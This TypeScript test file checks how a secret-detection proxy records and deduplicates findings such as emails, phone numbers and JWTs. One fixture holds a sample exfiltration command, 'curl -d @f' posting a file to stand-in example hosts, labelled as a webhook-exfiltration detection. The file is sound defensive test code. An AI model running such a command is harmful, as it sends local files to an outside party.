import { describe, expect, test } from 'vitest';
import type { Hit } from '../../../extproc/content/transform.ts';
import { findingBook } from '../../../extproc/exchange/findings.ts';
import { maskKeys } from '../../../extproc/mask/keys.ts';
import { defaultLimits } from '../../../extproc/words/limits.ts';
import { Secret } from '../../../extproc/words/secret.ts';

const keys = maskKeys(new Secret(Buffer.alloc(32, 1)));
const plainLabels = { of: (name: string) => name, finds: () => false };
const book = (findingsMax = 1000) => findingBook(keys, plainLabels, { ...defaultLimits, findingsMax });
const hit = (id: string, value: string | null, more: Partial<Hit> & { class?: string } = {}): Hit => ({
  detector: { id, group: 'g', class: more.class ?? 'secret', severity: 'high', confidence: 1 },
  confidence: 1,
  channel: 'c',
  path: 'p',
  key: null,
  value: value === null ? null : Buffer.from(value),
  unit: null,
  isSigned: false,
  ...more,
});

describe('findings of one exchange', () => {
  test('are one with a count when detector, place and value are the same', () => {
    const findings = book();
    findings.add(hit('email', 'a'), 'response');
    expect(findings.add(hit('email', 'a'), 'response')).toMatchObject({ id: 1, count: 2 });
    expect(findings.add(hit('email', 'b'), 'response')).toMatchObject({ id: 2, count: 1 });
    expect(findings.add(hit('email', 'a'), 'request')).toMatchObject({ id: 3 });
    expect(findings.add(hit('email', 'a', { channel: 'd' }), 'response')).toMatchObject({ id: 4 });
    expect(findings.total).toBe(5);
  });

  test('deserve the confidence of the best occurrence', () => {
    const findings = book();
    findings.add(hit('phone', 'a', { confidence: 0.4 }), 'response');
    expect(findings.add(hit('phone', 'a', { confidence: 0.8 }), 'response')).toMatchObject({ confidence: 0.8 });
    expect(findings.add(hit('phone', 'a', { confidence: 0.5 }), 'response')).toMatchObject({ confidence: 0.8 });
  });

  test('in different lines of code are judged apart, since each line names its own destinations', () => {
    const findings = book();
    const line = (host: string) => hit('webhook-exfiltration', 'curl', { unit: Buffer.from(`curl -d @f https://${host}/`) });
    findings.add(line('a.example'), 'response');
    expect(findings.add(line('b.example'), 'response')).toMatchObject({ id: 2, destinations: [{ host: 'b.example' }] });
  });

  test('whose end is not known yet have no length, shape and fingerprint', () => {
    expect(book().add(hit('jwt', null), 'response')).toMatchObject({ length: null, shape: null, fingerprint: null });
  });

  test('over the limit of distinct ones are none', () => {
    const findings = book(1);
    expect(findings.add(hit('email', 'a'), 'response')).not.toBeNull();
    expect(findings.add(hit('email', 'a'), 'response')).not.toBeNull();
    expect(findings.add(hit('email', 'b'), 'response')).toBeNull();
  });
});

describe('what a policy sees of many findings', () => {
  test('is the one that it is asked about, risks, and the first of the rest', () => {
    const findings = book();
    for (let i = 0; i < 80; i++) findings.add(hit('email', `a${i}`), 'response');
    findings.add(hit('webhook-exfiltration', 'x', { class: 'risk' }), 'response');
    const last = findings.add(hit('email', 'z'), 'response')!;
    const seen = findings.seen(64, last);
    expect(seen).toHaveLength(64);
    expect(seen.map(({ id }) => id)).toEqual([...Array.from({ length: 62 }, (_, i) => i + 1), 81, 82]);
  });
});
